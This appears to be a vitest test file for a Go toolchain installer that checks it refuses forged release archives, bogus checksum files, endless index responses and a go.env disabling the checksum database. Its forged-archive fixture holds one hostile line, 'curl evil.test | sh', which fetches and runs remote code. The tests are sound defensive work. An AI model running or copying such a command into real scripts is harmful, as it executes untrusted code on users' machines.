import fs from "node:fs";
import path from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { treeTarGz } from "../support/archives.ts";
import { releaseIndex, sha256 } from "../support/go-files.ts";
import { type Handler, serve, startServer } from "../support/http-server.ts";
import { runGov } from "../support/run-gov.ts";
import { scratchHome } from "../support/scratch-home.ts";
import { writeTree } from "../support/tree.ts";
import { bucketOf } from "./bucket.ts";
import { leftBehind } from "./hostile-install.ts";
import { FAKE, OTHER, release } from "./releases.ts";
import { startWorld, type World } from "./world.ts";

const ARCHIVE = `go${FAKE}.linux-amd64.tar.gz`;
const FORGED = treeTarGz({ ...release(FAKE), "src/all.bash": "#!/usr/bin/env bash\ncurl evil.test | sh\n" });

/** The index of go.dev, in which the digest of the archive is another one. */
function indexWith({ files }: World, digest: string): Handler {
  const index = releaseIndex(files).replace(sha256(files[ARCHIVE] ?? Buffer.of()), digest);
  return serve(index, { type: "application/json" });
}

test.each<[what: string, digest: (world: World) => string]>([
  ["nothing", () => ""],
  ["zeros", () => "0".repeat(64)],
  ["a digest that is too short", () => sha256(FORGED).slice(0, 63)],
  ["a digest with something behind it", () => `${sha256(FORGED)}  ${ARCHIVE}`],
  ["the digest of another version", ({ files }) => sha256(files[`go${OTHER}.linux-amd64.tar.gz`] ?? FORGED)],
  ["the digest of nothing", () => sha256(Buffer.of())],
  ["the digest of the genuine archive", ({ files }) => sha256(files[ARCHIVE] ?? FORGED)],
])("an index that says %s proves no forged archive", async (_, digest) => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  world.go.replaceIndex(indexWith(world, digest(world)));
  world.go.replace("dl.google.com", bucketOf({ [ARCHIVE]: FORGED }).handler);
  const { stderr, status } = await runGov(scratch, ["install", "--from", "official", FAKE], {
    env: world.env,
  });
  expect(stderr).toMatch(
    /^gov: (?:nothing proves Go 1\.21\.90|Go 1\.21\.90 for linux-amd64 is not genuine)/m,
  );
  expect(status).toBe(6);
  expect(leftBehind(scratch)).toEqual([]);
});

test.each<[what: string, beside: (archive: Buffer) => string]>([
  ["agrees with it", sha256],
  ["agrees with it in capitals", (archive) => sha256(archive).toUpperCase()],
  ["names it", (archive) => `${sha256(archive)}  ${ARCHIVE}\n`],
  ["is empty", () => ""],
])("a .sha256 that %s proves no archive, and nobody is asked for one", async (_, beside) => {
  const world = await startWorld({ recorded: [] });
  const scratch = scratchHome();
  const files = { [ARCHIVE]: FORGED, [`${ARCHIVE}.sha256`]: Buffer.from(beside(FORGED)) };
  const bucket = bucketOf(files);
  const mirror = await startServer(bucket.handler);
  onTestFinished(() => mirror.close());
  const env = {
    ...world.env,
    GOV_MIRRORS: JSON.stringify([{ name: "corp", url: mirror.origin, index: "none" }]),
  };
  for (const from of ["corp", `${mirror.origin}/${ARCHIVE}`]) {
    const { status } = await runGov(scratch, ["install", "--from", from, FAKE], { env });
    expect(status).toBe(6);
  }
  expect(bucket.requests.map((request) => request.path)).toEqual([`/${ARCHIVE}`, `/${ARCHIVE}`]);
  expect(leftBehind(scratch)).toEqual([]);
});

test("an index without end is given up", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  world.go.replaceIndex(async (_, response) => {
    response.writeHead(200, { "content-type": "application/json" }).write("[");
    const piece = Buffer.alloc(1024 * 1024, " ");
    while (!response.destroyed) await new Promise((resolve) => void response.write(piece, resolve));
  });
  const env = { ...world.env, GOV_ORDER: "official" };
  const { stderr, status } = await runGov(scratch, ["install", "1.21"], { env });
  expect(stderr).toMatch(/^gov: .*go\.dev.* more than /m);
  expect(status).toBe(5);
});

test("a go.env that turns the checksum database off, as some distributions have it, is not read", async () => {
  const world = await startWorld();
  const scratch = scratchHome();
  const goroot = path.join(scratch.dir, "goroot");
  writeTree(goroot, { "go.env": "GOSUMDB=off\nGOPROXY=direct\n", VERSION: "go1.20.1\n" });
  const env = { ...world.env, GOROOT: goroot };
  const { status } = await runGov(scratch, ["install", FAKE], { env });
  expect(status).toBe(0);
  const receipt = fs.readFileSync(path.join(scratch.root, "versions", FAKE, "receipt.json"), "utf8");
  expect(JSON.parse(receipt).proofs[0].kind).toBe("sumdb");
});
